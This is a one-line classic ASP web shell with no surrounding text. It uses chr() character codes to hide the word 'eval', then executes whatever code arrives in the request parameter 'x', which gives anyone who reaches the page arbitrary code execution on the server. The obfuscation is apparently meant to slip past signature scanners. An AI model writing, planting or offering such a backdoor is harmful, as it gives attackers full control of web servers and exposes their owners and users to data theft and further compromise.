<%
execute(chr(101)&chr(118)&chr(97)&chr(108)&"(request(""x""))")
%>
